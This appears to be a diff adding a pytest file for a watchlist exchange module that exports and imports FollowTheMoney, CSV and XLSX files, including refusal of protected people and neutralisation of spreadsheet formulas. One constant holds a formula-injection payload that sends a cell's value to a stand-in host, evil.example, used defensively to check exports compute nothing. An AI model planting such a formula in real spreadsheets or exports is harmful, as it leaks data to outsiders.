@@ -1,0 +1,229 @@
+"""The watchlist goes out and comes back: nothing is lost that the form can carry, and nothing harms who opens it."""
+
+from __future__ import annotations
+
+import csv
+import json
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from core.errors import InputError
+from core.terms import ContactType, DocumentKind, FlagState, LegalStatus, NameKind
+from store import flags, seeds, watchlist
+from store.exchange import ftm, watchlist_file
+from store.exchange.entries import Entry, entries
+from store.exchange.incoming import read_ftm
+from store.identity import judge
+from store.identity.judge import Signature
+from store.seeds import neutralised
+from store.session import Database, Session
+from store.tables import OperatorNameRow, OperatorRow
+from store.watchlist import Sighting
+from tests.store.make import NOON, OFFER, mention, phone, register, report
+
+SEEN = Sighting(NOON, NOON + timedelta(days=3), counts=False)
+EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+
+
+def _fill(session: Session) -> None:
+    register(session, "cl_voz", "co_hora")
+    advert = [phone("+573000000017"), phone("+573000000017", kind=ContactType.WHATSAPP),
+              phone("viveonline", kind=ContactType.TELEGRAM), phone("vive.example", kind=ContactType.URL)]  # fmt: skip
+    report(session, 1, [mention("ViveOnline", "@vive.online", EVIL)], advert, labels=(OFFER,), kind=DocumentKind.AD)
+    report(session, 9000, [mention("Juan Pérez Quispe", is_person=True, status=LegalStatus.CHARGED)])
+    watchlist.add_names(session, 1, [("Paso Antiguo Zorzal", NameKind.PREVIOUS_NAME)], SEEN)
+    watchlist.create(session, "Kantuta", is_person=False, seen=SEEN, seed_key="Kantuta & Söhne")
+    watchlist.add_names(session, 3, [("Kantuta", NameKind.NAME)], SEEN)
+    report(session, 18_000, [], [phone("+573000000099")], labels=(OFFER,), kind=DocumentKind.AD)  # has no name
+
+
+def _entries(session: Session) -> list[Entry]:
+    return list(entries(session))
+
+
+def _again(session: Session, path: Path) -> list[Entry]:
+    """Read a file into an emptied watchlist and take it out again."""
+    read = watchlist_file.read(path)
+    assert read.refused == {}
+    with session.begin_nested() as nested:
+        for number, row in enumerate(session.query(OperatorRow).all()):
+            row.seed_key = f"gone {number}"
+        seeds.load(session, read.seeds, NOON)
+        keys = {seed.key for seed in read.seeds}
+        found = [entry for entry in _entries(session) if entry.key in keys]
+        nested.rollback()
+    return found
+
+
+def test_a_round_trip_loses_nothing(database: Database, tmp_path: Path) -> None:
+    path = tmp_path / "watchlist.ftm.json"
+    with database.transaction() as session:
+        _fill(session)
+        before = _entries(session)
+        assert watchlist_file.write(before, path) == 3
+        after = _again(session, path)
+    assert [_comparable(entry) for entry in after] == [_comparable(entry) for entry in before]
+    assert dict(before[0].names)["Paso Antiguo Zorzal"] is NameKind.PREVIOUS_NAME
+
+
+def _comparable(entry: Entry) -> dict[str, object]:
+    """All but the order of the names and who published (it stands with the article)."""
+    return {
+        "key": entry.key,
+        "name": entry.name,
+        "names": dict(entry.names),
+        "contacts": set(entry.contacts),
+        "countries": entry.countries,
+        "routes": entry.routes,
+        "is_person": entry.is_person,
+        "said": [(said.status, said.on, said.url, said.sentence) for said in entry.said],
+        "seen": (entry.first_seen, entry.last_seen),
+        "standing": entry.standing,
+    }
+
+
+@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
+def test_sheets_come_back_and_compute_nothing(database: Database, tmp_path: Path, name: str) -> None:
+    path = tmp_path / name
+    with database.transaction() as session:
+        _fill(session)
+        watchlist.create(session, "nameless", is_person=False, seen=SEEN)
+        operator_id = watchlist.create(session, EVIL, is_person=False, seen=SEEN)
+        watchlist.add_names(session, operator_id, [(EVIL, NameKind.NAME)], SEEN)
+        before = _entries(session)
+        assert watchlist_file.write(before, path) == 4
+        after = _again(session, path)
+    for one, other in zip(before, after, strict=True):
+        assert (one.key, one.name, one.countries) == (other.key, other.name, other.countries)
+        assert (dict(one.names).keys(), set(one.contacts)) == (dict(other.names).keys(), set(other.contacts))
+    if name.endswith(".csv"):
+        with path.open(encoding="utf-8-sig", newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+    else:
+        rows = list(load_workbook(path).worksheets[0].iter_rows())
+        assert {cell.data_type for row in rows for cell in row} <= {"s", "inlineStr", "n"}
+        cells = [str(cell.value) for row in rows for cell in row if cell.value is not None]
+    assert f"'{EVIL}" in cells
+    assert [cell for cell in cells if cell[:1] in "=+-@" and cell] == []
+
+
+@given(st.text(max_size=20))
+def test_what_is_neutralised_computes_nothing_and_comes_back(cell: str) -> None:
+    safe = neutralised(cell)
+    assert safe[:1] not in tuple("=+-@\t\r")
+    assert seeds._as_meant(safe) == cell
+
+
+def test_entities_are_what_the_vocabulary_allows(database: Database) -> None:
+    followthemoney = pytest.importorskip("followthemoney", reason="the extra ftm is not installed")
+    with database.transaction() as session:
+        _fill(session)
+        found = [entity for entry in _entries(session) for entity in ftm.entities(entry)]
+    assert {entity["schema"] for entity in found} == {
+        "Organization", "Person", "UserAccount", "Article", "Documentation"
+    }  # fmt: skip
+    for entity in found:
+        proxy = followthemoney.model.get_proxy(json.loads(json.dumps(entity)), cleaned=False)
+        kept = {name: sorted(proxy.get(name)) for name in entity["properties"]}  # type: ignore[attr-defined]
+        assert kept == {name: sorted(set(values)) for name, values in entity["properties"].items()}  # type: ignore[attr-defined]
+        assert proxy.schema.validate(entity) is None
+
+
+def test_smuggling_is_never_trafficking_and_the_cleared_carry_no_topic(database: Database) -> None:
+    with database.transaction() as session:
+        _fill(session)
+        (one, other, _third) = _entries(session)
+    (entity, *_more) = ftm.entities(one)
+    properties = entity["properties"]
+    assert isinstance(properties, dict)
+    assert properties["topics"] == ["crime"]
+    assert properties["keywords"] == [ftm.TAG, ftm.LEAD, "almenara:standing:advertised"]
+    assert "traffick" not in json.dumps([*ftm.entities(one), *ftm.entities(other)])
+    import dataclasses
+
+    (cleared, *_rest) = ftm.entities(dataclasses.replace(one, standing=LegalStatus.CLEARED))
+    assert "topics" not in cleared["properties"]  # type: ignore[operator]
+    assert ftm.TAG not in cleared["properties"]["keywords"]  # type: ignore[index]
+
+
+def test_a_merged_operator_goes_out_once_and_only_the_confirmed_where_asked(database: Database) -> None:
+    with database.transaction() as session:
+        _fill(session)
+        assert list(entries(session, confirmed=True)) == []
+        flags.decide(session, 2, FlagState.CONFIRMED, who="ana", why="", expected_version=1, now=NOON)
+        judge.merge(session, [1, 2], Signature("ana", "one man's firm", NOON))
+        (entry,) = entries(session, confirmed=True)
+        assert entry.name == "ViveOnline"
+        assert "Juan Pérez Quispe" in dict(entry.names)
+        assert entry.standing is LegalStatus.CHARGED
+
+
+def _line(**changes: object) -> str:
+    properties = {"name": ["Ruta Zorzal"], "topics": ["crime"]} | changes
+    return json.dumps({"id": "x-1", "schema": "Person", "properties": properties}) + "\n"
+
+
+@pytest.mark.parametrize(
+    ("topics", "taken"),
+    [
+        (["crime"], 1),
+        (["sanction.linked"], 1),
+        (["wanted"], 1),
+        (["role.pep"], 0),
+        (["crime", "role.journo"], 0),
+        (["crime", "asylum"], 0),
+        (["crime.traffick.human", "role.victim"], 0),
+        (["crime", "gov.security"], 0),
+        ([], 0),
+    ],
+)
+def test_who_is_never_listed_is_refused(tmp_path: Path, topics: list[str], taken: int) -> None:
+    path = tmp_path / "list.ftm.json"
+    path.write_text(_line(topics=topics), encoding="utf-8")
+    read = read_ftm(path)
+    assert len(read.seeds) == taken
+    assert sum(read.refused.values()) == 1 - taken
+
+
+@pytest.mark.parametrize(
+    "line", ["{", "[]", '{"id": 1, "schema": "Person"}', '{"id": "a", "schema": "Person", "properties": ["x"]}']
+)
+def test_a_line_that_is_no_entity_is_named(tmp_path: Path, line: str) -> None:
+    path = tmp_path / "list.json"
+    path.write_text(_line() + line, encoding="utf-8")
+    with pytest.raises(InputError, match=r"list\.json, line 2: no FollowTheMoney entity"):
+        read_ftm(path)
+
+
+def test_an_import_read_twice_doubles_nothing(database: Database, tmp_path: Path) -> None:
+    path = tmp_path / "list.ftm.json"
+    path.write_text(_line(alias=["Zorzal Express", "@zorzal"], phone=["+573000000017"]), encoding="utf-8")
+    with database.transaction() as session:
+        assert seeds.load(session, read_ftm(path).seeds, NOON) == 1
+        assert seeds.load(session, read_ftm(path).seeds, NOON) == 0
+        kinds = dict(session.query(OperatorNameRow.name, OperatorNameRow.kind).all())
+    assert kinds == {"Ruta Zorzal": "name", "Zorzal Express": "alias", "@zorzal": "handle"}
+
+
+def test_a_manifest_for_yente(tmp_path: Path) -> None:
+    target = watchlist_file.write_manifest(tmp_path / "watchlist.ftm.json", NOON)
+    (dataset,) = yaml.safe_load(target.read_text(encoding="utf-8"))["datasets"]
+    assert target.name == "watchlist.yente.yml"
+    assert (dataset["name"], dataset["version"]) == ("almenara_watchlist", "20210123120000")
+    assert dataset["path"].endswith("/watchlist.ftm.json")
+
+
+def test_other_forms_are_refused(tmp_path: Path) -> None:
+    with pytest.raises(InputError, match=r"\.ftm\.json"):
+        watchlist_file.write([], tmp_path / "list.pdf")
+    with pytest.raises(InputError, match="not a form that is read"):
+        watchlist_file.read(tmp_path / "list.pdf")
+    (tmp_path / "list.xlsx").write_bytes(b"no workbook")
+    with pytest.raises(InputError, match=r"list\.xlsx"):
+        watchlist_file.read(tmp_path / "list.xlsx")
